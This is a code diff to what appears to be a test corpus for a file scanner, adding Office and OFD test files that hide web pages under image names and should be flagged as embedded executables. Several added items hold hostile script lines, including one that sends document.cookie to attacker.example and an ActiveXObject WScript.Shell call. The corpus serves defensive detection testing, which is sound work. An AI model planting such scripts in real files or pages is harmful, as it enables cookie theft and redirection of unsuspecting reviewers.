@@ -1383,6 +1383,7 @@ const officeItems: CorpusItem[] = [
   ...wordChartOfficeItems(),
   ...altChunkOfficeItems(),
   ...macroPlacedOfficeItems(),
+  ...pageOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2813,6 +2814,35 @@ const ofdItems: CorpusItem[] = [
     bytes: () => ofdMedia('%255C%255Cattacker.example%255Cshare%255Ctrack.png'),
     expect: 'OFD_ACTION',
   },
+  // Round 15: a web page under a picture's name, VALID before. No OFD reader renders it, but a
+  // reviewer who unpacks the file and opens it runs its script in a browser.
+  {
+    id: 'ofd-html-page-named-as-picture',
+    category: 'OFD executable',
+    declared: 'ofd',
+    bytes: () =>
+      ofdWith('', [
+        {
+          name: 'Doc_0/Res/image1.png',
+          data: '\r\n<!DOCTYPE html><script>fetch("http://attacker.example/t?"+document.cookie)</script>',
+        },
+      ]),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
+  {
+    id: 'ofd-html-page-by-name',
+    category: 'OFD executable',
+    declared: 'ofd',
+    // Its first bytes are XML's, not sniffed as a page: refused by its name.
+    bytes: () =>
+      ofdWith('', [
+        {
+          name: 'Doc_0/Res/说明.xhtml',
+          data: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>location="http://attacker.example/"</script></body></html>',
+        },
+      ]),
+    expect: 'EMBEDDED_EXECUTABLE',
+  },
 ];
 
 export const ACTIVE_CORPUS: readonly CorpusItem[] = [...pdfItems, ...unreadablePdfs, ...officeItems, ...ofdItems];
@@ -3654,6 +3684,36 @@ export const ACTIVE_GENUINE: readonly {
         undefined,
         [{ name: 'xl/media/image2.svg', data: SVG_ICON }],
       ),
+  },
+  // Round 15: parts not named as XML, sniffed for a web page's first bytes and not one: a header
+  // Word reads under another name, a printer's settings (a DEVMODE, its device name in UTF-16),
+  // an OFD text note starting with a bracket that is no HTML tag.
+  {
+    id: 'docx-header-named-bin',
+    declared: 'docx',
+    bytes: () =>
+      office('docx', {}, [
+        {
+          name: 'word/header9.bin',
+          data: '\r\n<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p/></w:hdr>',
+        },
+      ]),
+  },
+  {
+    id: 'xlsx-printer-settings',
+    declared: 'xlsx',
+    bytes: () =>
+      office('xlsx', {}, [
+        {
+          name: 'xl/printerSettings/printerSettings1.bin',
+          data: Buffer.concat([Buffer.from('Microsoft Print to PDF', 'utf16le'), Buffer.alloc(200, 0)]),
+        },
+      ]),
+  },
+  {
+    id: 'ofd-text-note-with-brackets',
+    declared: 'ofd',
+    bytes: () => ofdWith('', [{ name: 'Doc_0/Res/备注.txt', data: '<备注> 第一页印章为复印件\r\n<b>' }]),
   },
 ];
 
@@ -4961,6 +5021,38 @@ function macroPlacedOfficeItems(): CorpusItem[] {
           [{ name: 'word/media/image9.bin', data: randomBytes(2048) }],
         ),
       'MACROS',
+    ),
+  ];
+}
+
+/**
+ * Web pages under a picture's name or a page's own (round 15), VALID before: no Office reader
+ * renders them, but a reviewer who unpacks the file and opens one runs its script in a browser.
+ * By first bytes after a byte order mark and line ends, and by name.
+ */
+function pageOfficeItems(): CorpusItem[] {
+  const page = '<html><body><script>location="http://attacker.example/"</script></body></html>';
+  return [
+    item(
+      'docx-html-page-named-as-jpeg',
+      'OOXML executable',
+      () => office('docx', {}, [{ name: 'word/media/a.jpg', data: `\ufeff\r\n\t${page}` }]),
+      'EMBEDDED_EXECUTABLE',
+    ),
+    item(
+      'xlsx-html-script-named-as-png',
+      'OOXML executable',
+      () =>
+        office('xlsx', {}, [
+          { name: 'xl/media/image1.png', data: '<SCRIPT>new ActiveXObject("WScript.Shell")</SCRIPT>' },
+        ]),
+      'EMBEDDED_EXECUTABLE',
+    ),
+    item(
+      'docx-html-page-by-name',
+      'OOXML executable',
+      () => office('docx', {}, [{ name: 'word/media/page.mhtml', data: `MIME-Version: 1.0\r\n\r\n${page}` }]),
+      'EMBEDDED_EXECUTABLE',
     ),
   ];
 }
